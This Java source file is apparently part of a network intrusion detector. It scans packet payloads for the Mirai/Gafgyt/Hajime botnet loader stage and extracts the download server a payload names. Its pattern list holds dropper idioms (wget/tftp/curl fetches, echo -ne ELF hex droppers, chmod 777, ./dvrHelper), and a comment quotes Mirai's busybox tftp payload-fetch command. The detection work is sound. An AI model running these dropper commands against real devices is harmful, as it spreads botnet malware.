package io.bulwark.detect.infection;

import io.bulwark.decode.packet.PacketView;

import java.nio.charset.StandardCharsets;

/**
 * Byte patterns of the loader stage, searched in packet payloads without allocating. Taken
 * from Mirai's loader (loader/src/server.c, connection.c) and the Gafgyt/Hajime droppers
 * that share its shell idioms.
 */
final class LoaderMarkers {
    /** Bit flags of what a payload contained. */
    static final int BUSYBOX = 1;
    static final int APPLET_NOT_FOUND = 2;
    static final int WGET_OR_TFTP = 4;
    static final int ECHO_DROPPER = 8;
    static final int ELF = 16;
    static final int EXEC = 32;

    private static final byte[][] PATTERNS = {
        ascii("/bin/busybox"),
        ascii("applet not found"),
        ascii("wget http"),
        ascii("tftp "),
        ascii("curl http"),
        ascii("echo -ne '\\x7f\\x45\\x4c\\x46"),
        ascii("echo -ne \"\\x7f\\x45\\x4c\\x46"),
        {0x7f, 'E', 'L', 'F'},
        ascii("chmod 777"),
        ascii("./dvrHelper"),
    };
    private static final int[] FLAGS = {BUSYBOX, APPLET_NOT_FOUND, WGET_OR_TFTP, WGET_OR_TFTP, WGET_OR_TFTP,
        ECHO_DROPPER, ECHO_DROPPER, ELF, EXEC, EXEC};

    private LoaderMarkers() {
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }

    /** Pattern first bytes: most payload bytes start no pattern and cost one table read. */
    private static final boolean[] FIRST = new boolean[256];

    static {
        for (byte[] pat : PATTERNS) {
            FIRST[pat[0] & 0xff] = true;
        }
    }

    /** {@link #ELF} when the payload's first {@code limit} bytes hold an ELF header, else 0. */
    static int elf(PacketView p, int limit) {
        int n = Math.min(p.payloadLength(), limit) - 3;
        for (int i = 0; i < n; i++) {
            if (p.payloadByte(i) == 0x7f && p.payloadByte(i + 1) == 'E' && p.payloadByte(i + 2) == 'L'
                    && p.payloadByte(i + 3) == 'F') {
                return ELF;
            }
        }
        return 0;
    }

    /** Flags of every pattern found in the payload's first {@code limit} bytes. */
    static int scan(PacketView p, int limit) {
        int n = Math.min(p.payloadLength(), limit);
        int found = 0;
        for (int i = 0; i < n; i++) {
            int b = p.payloadByte(i);
            if (!FIRST[b]) {
                continue;
            }
            for (int k = 0; k < PATTERNS.length; k++) {
                byte[] pat = PATTERNS[k];
                if ((pat[0] & 0xff) == b && i + pat.length <= n && matches(p, i, pat)) {
                    found |= FLAGS[k];
                }
            }
        }
        return found;
    }

    private static boolean matches(PacketView p, int at, byte[] pat) {
        for (int j = 1; j < pat.length; j++) {
            if (p.payloadByte(at + j) != (pat[j] & 0xff)) {
                return false;
            }
        }
        return true;
    }

    static String describe(int flags) {
        StringBuilder sb = new StringBuilder();
        if ((flags & BUSYBOX) != 0) {
            sb.append("busybox probe, ");
        }
        if ((flags & APPLET_NOT_FOUND) != 0) {
            sb.append("'applet not found' reply, ");
        }
        if ((flags & WGET_OR_TFTP) != 0) {
            sb.append("wget/tftp download command, ");
        }
        if ((flags & ECHO_DROPPER) != 0) {
            sb.append("echo -ne hex dropper, ");
        }
        if ((flags & ELF) != 0) {
            sb.append("ELF binary transferred, ");
        }
        if ((flags & EXEC) != 0) {
            sb.append("dropped file made executable/run, ");
        }
        return sb.length() == 0 ? "" : sb.substring(0, sb.length() - 2);
    }

    /**
     * The server a download command in the payload names, or null: the host of a
     * {@code http://HOST[:PORT]/...} URL (wget, curl), or the dotted IPv4 address on a line with
     * {@code tftp} (Mirai's loader: {@code /bin/busybox tftp -g -l dvrHelper -r mirai.arm7 HOST}).
     * At most {@code limit} bytes are read; allocates only the answer.
     */
    static String downloadServer(PacketView p, int limit) {
        int n = Math.min(p.payloadLength(), limit);
        for (int i = 0; i + 7 <= n; i++) {
            if (p.payloadByte(i) == 'h' && matches(p, i, HTTP) && i + HTTP.length <= n) {
                StringBuilder host = new StringBuilder();
                for (int j = i + HTTP.length; j < n && host.length() < 253; j++) {
                    int c = p.payloadByte(j);
                    if (c == '/' || c == ':' || c <= ' ' || c > '~' || c == '\'' || c == '"') {
                        break;
                    }
                    host.append((char) c);
                }
                if (host.length() > 0) {
                    return host.toString();
                }
            }
            if (p.payloadByte(i) == 't' && matches(p, i, TFTP) && i + TFTP.length <= n) {
                String last = null;
                int j = i + TFTP.length;
                while (j < n && p.payloadByte(j) != '\n' && p.payloadByte(j) != '\r' && p.payloadByte(j) != ';') {
                    int start = j;
                    while (j < n && (Character.isDigit(p.payloadByte(j)) || p.payloadByte(j) == '.')) {
                        j++;
                    }
                    if (j > start && dottedQuad(p, start, j)) {
                        StringBuilder ip = new StringBuilder();
                        for (int k = start; k < j; k++) {
                            ip.append((char) p.payloadByte(k));
                        }
                        last = ip.toString();
                    }
                    j = Math.max(j, start + 1);
                }
                if (last != null) {
                    return last;
                }
            }
        }
        return null;
    }

    private static final byte[] HTTP = ascii("http://");
    private static final byte[] TFTP = ascii("tftp ");

    private static boolean dottedQuad(PacketView p, int from, int to) {
        int dots = 0;
        int digits = 0;
        for (int k = from; k < to; k++) {
            if (p.payloadByte(k) == '.') {
                if (digits == 0 || digits > 3) {
                    return false;
                }
                dots++;
                digits = 0;
            } else {
                digits++;
            }
        }
        return dots == 3 && digits >= 1 && digits <= 3;
    }
}
